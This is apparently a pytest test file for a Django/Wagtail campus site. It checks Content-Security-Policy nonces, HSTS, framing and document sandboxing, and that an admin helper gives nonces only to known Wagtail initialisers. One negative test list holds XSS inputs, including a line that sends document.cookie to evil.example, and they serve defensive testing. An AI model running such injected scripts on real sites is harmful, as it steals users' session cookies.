"""Security headers: Content-Security-Policy with nonces, framing, referrer, MIME sniffing,
browser features, cross-origin isolation and HSTS, on public pages, the admin and documents."""

import re

import pytest
from django.core.files.base import ContentFile
from django.http import HttpResponse
from django.urls import reverse
from wagtail.documents import get_document_model

from campus.admin_scripts import add_nonces, is_known_initialiser
from campus.middleware import DOCUMENT_POLICY
from courses.factories import build_path
from courses.models import LessonPage, QuizPage
from learners.factories import UserFactory
from tests.campus.security import assert_security_headers, content_security_policy, script_nonce

pytestmark = pytest.mark.django_db

PUBLIC_URLS = [
    "/",
    "/catalogue/",
    "/accessibilite/",
    "/comptes/login/",
    "/comptes/signup/",
    "/comptes/password/reset/",
    "/healthz",
    "/sitemap.xml",
    "/cette-page-n-existe-pas/",
]


@pytest.mark.parametrize("url", PUBLIC_URLS)
def test_headers_public_responses_carry_security_headers(client, url):
    """Pages, JSON, XML and the 404 page all carry the headers; HTML scripts carry the nonce."""
    response = client.get(url)
    assert response.status_code in {200, 404}
    assert_security_headers(response)


def test_headers_site_pages_carry_security_headers(client):
    """The footer's site pages (legal notice, privacy, site map) too."""
    for name in ("legal_notice", "privacy", "sitemap"):
        assert_security_headers(client.get(reverse(name)))


def test_headers_page_nonce_matches_dsfr_scripts_and_changes_per_request(client):
    """The DSFR scripts carry the header's nonce, and each response draws a new nonce."""
    first = client.get("/")
    nonce = script_nonce(content_security_policy(first))
    scripts = re.findall(rb"<script[^>]*>", first.content)
    assert scripts and all(f'nonce="{nonce}"'.encode() in tag for tag in scripts)
    assert script_nonce(content_security_policy(client.get("/"))) != nonce


def test_headers_policy_directives(client):
    """The public policy: own files, video players in frames, forms to the campus and
    ProConnect, no plugin, no framing, no inline style."""
    policy = assert_security_headers(client.get("/"))
    assert policy["style-src"] == ["'self'"]
    assert policy["img-src"] == ["'self'", "data:"]
    assert policy["font-src"] == ["'self'", "data:"]
    assert policy["connect-src"] == ["'self'"]
    assert "https://www.youtube-nocookie.com" in policy["frame-src"]
    assert "https://player.vimeo.com" in policy["frame-src"]
    assert "https://www.dailymotion.com" in policy["frame-src"]
    assert "'self'" not in policy["frame-src"]
    assert policy["form-action"] == ["'self'", "https://fca.integ01.dev-agentconnect.fr"]


def test_headers_hsts_on_https(client):
    """Over HTTPS, browsers are told to keep to HTTPS for a year, subdomains included."""
    response = client.get("/", secure=True)
    assert response["Strict-Transport-Security"] == ("max-age=31536000; includeSubDomains; preload")


def test_headers_redirects_carry_security_headers(client):
    """A redirect (anonymous visitor sent to the login page) carries them too."""
    response = client.get(reverse("dashboard"))
    assert response.status_code == 302
    assert_security_headers(response)


# Wagtail admin ------------------------------------------------------------------------------


@pytest.fixture
def administrator(client):
    user = UserFactory(email="admin.csp@campus.example", is_superuser=True, is_staff=True)
    client.force_login(user)
    return user


def test_headers_admin_keeps_strict_scripts(client, administrator):
    """The admin allows inline styles (Draftail) and its own preview frames, never inline
    scripts."""
    policy = assert_security_headers(client.get("/cms/"))
    assert "'unsafe-inline'" in policy["style-src"]
    assert "'self'" in policy["frame-src"]


def test_headers_admin_inline_initialisers_get_the_nonce(client, administrator):
    """Wagtail's inline widget initialisers (inline panels, choosers, date pickers) get the
    page's nonce; the helper checks that no inline script is left without it."""
    build_path(quizzes=1)
    quiz = QuizPage.objects.get()
    response = client.get(f"/cms/pages/{quiz.pk}/edit/")
    assert response.status_code == 200
    nonce = script_nonce(assert_security_headers(response))
    assert f'<script nonce="{nonce}">'.encode() in response.content
    assert b"new InlinePanel(" in response.content


@pytest.mark.parametrize(
    "code",
    [
        'initDateTimeChooser("id_go_live_at", {"dayOfWeekStart": 1, "format": "Y-m-d H:i"});',
        'initDateChooser("id_day", {"format": "Y-m-d"});',
        'new PageChooser("id_page", {"modalUrl": "/cms/choose-page/", "canChooseRoot": false});',
        'new ImageChooser("id_image", {"modalUrl": "/cms/images/chooser/"});',
        'createTaskChooser("id_task");',
        '\n (function() {\n var panel = new InlinePanel(JSON.parse("{\\u0022formsetPrefix\\u0022:'
        ' \\u0022id_questions\\u0022}"));\n })();\n',
    ],
)
def test_headers_admin_known_initialisers_are_recognised(code):
    """Wagtail's initialisers, with JSON data as arguments, are recognised."""
    assert is_known_initialiser(code)


@pytest.mark.parametrize(
    "code",
    [
        "alert(document.cookie)",
        'initDateChooser("id", {}); fetch("https://evil.example/" + document.cookie);',
        'initDateChooser("id", window.location);',
        'new Function("alert(1)")();',
        'new Image("x");',
        'eval("alert(1)");',
        '(function() { var panel = new InlinePanel(JSON.parse("{}")); alert(1); })();',
        '(function() { var panel = new InlinePanel(JSON.parse("{}" + alert(1))); })();',
    ],
)
def test_headers_admin_other_inline_scripts_are_refused(code):
    """Anything else, such as an injected script, gets no nonce."""
    assert not is_known_initialiser(code)


def test_headers_admin_injected_script_gets_no_nonce(rf):
    """In a response, only the initialiser is stamped; an injected script is left as it is."""
    request = rf.get("/cms/")
    request.csp_nonce = "abc123"
    response = HttpResponse(
        '<p><script>initDateChooser("id_day", {"format": "Y-m-d"});</script>'
        "<script>alert(1)</script>"
        '<script>initDateChooser("x", {})</script ><script>alert(2)</script></p>'
    )
    response["Content-Length"] = str(len(response.content))
    add_nonces(request, response)
    assert response.content.count(b'nonce="abc123"') == 1
    assert b"<script>alert(1)</script>" in response.content
    assert response["Content-Length"] == str(len(response.content))


def test_headers_preview_may_be_framed_by_the_campus_only(client, administrator):
    """Wagtail's preview (SAMEORIGIN) may be framed by the campus itself, nothing else."""
    build_path()
    lesson = LessonPage.objects.get()
    preview_url = f"/cms/pages/{lesson.pk}/edit/preview/"
    form = {"title": lesson.title, "slug": lesson.slug, "duration_minutes": "20", "body-count": "0"}
    client.post(preview_url, form)
    response = client.get(preview_url, {"in_preview_panel": "true"})
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert_security_headers(response)
    assert content_security_policy(response)["frame-ancestors"] == ["'self'"]


# Documents ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filename", "content"),
    [
        ("programme.pdf", b"%PDF-1.4\n%fake\n"),
        ("notes.txt", b"<html><script>alert(1)</script></html>"),
    ],
)
def test_headers_documents_download_in_a_sandbox(client, filename, content):
    """Uploaded documents are always downloaded, never rendered by the campus's origin, and
    anything active in them runs in a sandbox with no permission."""
    document = get_document_model().objects.create(
        title="Programme", file=ContentFile(content, name=filename)
    )
    response = client.get(document.url)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["Content-Security-Policy"] == DOCUMENT_POLICY
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "camera=()" in response["Permissions-Policy"]
